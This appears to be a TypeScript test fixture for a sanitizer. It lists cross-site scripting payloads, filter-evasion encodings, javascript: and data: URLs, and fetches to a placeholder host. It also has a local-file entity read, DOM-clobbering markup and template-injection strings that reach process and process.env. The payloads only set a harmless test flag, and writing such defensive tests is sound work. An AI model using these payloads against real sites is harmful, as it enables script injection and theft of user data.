/** Sets the mark that the tests look for. */
const run = 'window.ran=1'

const events =
  `abort afterprint animationend animationiteration animationstart auxclick beforeinput beforematch beforeprint
  beforetoggle beforeunload blur cancel canplay canplaythrough change click close contextlost contextmenu copy cuechange cut
  dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout
  formdata fullscreenchange hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart
  message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow
  paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
  pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked
  seeking select selectionchange selectstart show slotchange stalled submit suspend timeupdate toggle touchcancel touchend
  touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange
  waiting webkitanimationend webkittransitionend wheel`.split(/\s+/)

const elements =
  `a applet article audio base body button canvas details dialog div embed form frameset iframe img input isindex
  keygen link marquee math menu meta meter object option picture portal pre select source style svg table textarea title video
  xmp xss`.split(/\s+/)

/** Elements and attributes that would run something. */
export const markup: ReadonlyArray<string> = [
  ...events.map((event, index) => `<${elements[index % elements.length]} on${event}=${run}>`),
  ...elements.map(name => `"><${name} src=x onerror='${run}' autofocus onfocus=${run}>`),
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script/x>`,
  `<script src=//elsewhere.invalid/x.js></script>`,
  `<script src=data:,${run}></script>`,
  `<script type=module>import 'https://elsewhere.invalid/x.js'</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `\\u003cscript\\u003e${run}`,
  `＜script＞${run}＜/script＞`,
  `' onmouseover='${run}`,
  `" onmouseover="${run}`,
  `\` onmouseover=\`${run}`,
  `" autofocus onfocus="${run}" x="`,
  `"/><svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><style>@import 'https://elsewhere.invalid/x.css'</style></svg>`,
  `<svg><image href="https://elsewhere.invalid/x.png" onload=${run}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href="javascript:${run}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
  `<iframe src="javascript:parent.${run}">`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=https://elsewhere.invalid/">`,
  `<base href=https://elsewhere.invalid/>`,
  `<link rel=stylesheet href=https://elsewhere.invalid/x.css>`,
  `<link rel=prefetch href=https://elsewhere.invalid/>`,
  `<link rel=dns-prefetch href=//elsewhere.invalid>`,
  `<img src=https://elsewhere.invalid/x.png>`,
  `<img srcset="https://elsewhere.invalid/x.png 1x">`,
  `<video poster=https://elsewhere.invalid/x.png><source src=x onerror=${run}>`,
  `<form action=https://elsewhere.invalid/><input name=x><button>x`,
  `<button form=filter formaction="javascript:${run}">x`,
  `<input name=attributes><input name=parentNode>`,
  `<a id=document><a id=location>`,
  `<img name=getElementById>`,
  `<plaintext>`,
  `<xmp>`,
  `<table><td>`,
  `</article></section></main></body></html>`,
  `<!DOCTYPE html><!ENTITY x SYSTEM "file:///etc/hostname">`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<p style="background:url(javascript:${run})">`,
  `<style>*{background:url(https://elsewhere.invalid/)}</style>`,
  `;}*{background:url(https://elsewhere.invalid/)}`,
  `</style><style>@import "https://elsewhere.invalid/x.css";`,
  `expression(${run})`,
  `@font-face{font-family:x;src:url(https://elsewhere.invalid/x.woff)}`,
]

/** Addresses that would run or fetch something, and Markdown that would make links of them. */
export const addresses: ReadonlyArray<string> = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `blob:https://elsewhere.invalid/x`,
  `file:///etc/hostname`,
  `//elsewhere.invalid/x`,
  `\\\\elsewhere.invalid\\share`,
  `https://elsewhere.invalid/`,
  `[x](javascript:${run})`,
  `![x](https://elsewhere.invalid/x.png)`,
  `[x]: javascript:${run}`,
  `<javascript:${run}>`,
  `[x](data:text/html,<script>${run}</script>)`,
  `mailto:x@elsewhere.invalid?body=x`,
  `tel:+810000000000`,
]

/** Handlebars that would call, include or read something. */
export const braces: ReadonlyArray<string> = [
  '{{title}}',
  '{{{title}}}',
  '{{&title}}',
  '{{> partials/card}}',
  '{{#each this}}x{{/each}}',
  '{{#with "s" as |string|}}{{string.constructor}}{{/with}}',
  '{{constructor.constructor "return process"}}',
  '{{lookup this "__proto__"}}',
  '{{__proto__}}',
  '{{this.constructor.name}}',
  '{{log "x"}}',
  '{{!-- x --}}',
  '{{#if true}}',
  '{{/if}}',
  '{{',
  '}}',
  '{{{{raw}}}}{{title}}{{{{/raw}}}}',
  '\\{{title}}',
  '${process.env.HOME}',
  '<%= process.env %>',
  '#{1+1}',
  '{%raw%}',
]
